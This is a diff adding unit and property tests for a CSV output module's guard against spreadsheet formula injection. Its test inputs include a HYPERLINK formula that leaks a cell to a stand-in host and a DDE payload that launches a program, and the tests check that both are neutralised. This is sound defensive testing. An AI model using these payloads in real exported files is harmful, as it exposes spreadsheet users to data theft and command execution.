@@ -4,8 +4,22 @@ from __future__ import annotations
 
 import datetime as dt
 import json
+import re
 
-from dealbook.text.output import DASH, money, percent, table, to_csv, to_json, width
+from dealbook.text.output import (
+    DASH,
+    csv_cell,
+    guard_cell,
+    money,
+    percent,
+    table,
+    to_csv,
+    to_json,
+    unguard_cell,
+    width,
+)
+from hypothesis import given
+from hypothesis import strategies as st
 
 
 def test_cjk_characters_take_two_columns() -> None:
@@ -40,3 +54,23 @@ def test_large_payloads_are_compact_and_equal() -> None:
     assert "\n" in to_json(small)
     text = to_json(large)
     assert "\n" not in text and json.loads(text)["rows"][4999] == {"id": 4999, "due": "2024-05-20"}
+
+
+def test_csv_cells_that_would_run_as_formulas_are_guarded() -> None:
+    for text in ('=HYPERLINK("http://x.example/?d="&A1,"y")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
+                 "\tx", "\rx", "-", "+86 138"):
+        assert csv_cell(text) == "'" + text
+    assert csv_cell("'=x") == "''=x"  # looks guarded already: guarded again, so reading back is exact
+    for text in ("A科技", "'quoted", "1+1", "x=1", "-5", "+3.5", "-1e5", " =1"):
+        assert csv_cell(text) == text
+    assert csv_cell(-5000) == "-5000" and csv_cell(-0.5) == "-0.5"  # numbers stay numbers
+    assert csv_cell(["=a", "b"]) == "'=a;b" and csv_cell(None) == "" and csv_cell(True) == "yes"
+    assert to_csv([{"name": "=1+1", "amount": -3}], ["name", "amount"]) == "name,amount\n'=1+1,-3\n"
+
+
+@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r0123456789.eE a科")), max_size=8))
+def test_unguard_reverses_guard(text: str) -> None:
+    guarded = guard_cell(text)
+    assert unguard_cell(guarded) == text
+    if guarded.startswith(("=", "+", "-", "@", "\t", "\r")):  # only a plain number may start so
+        assert re.fullmatch(r"[-+]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?", guarded), guarded
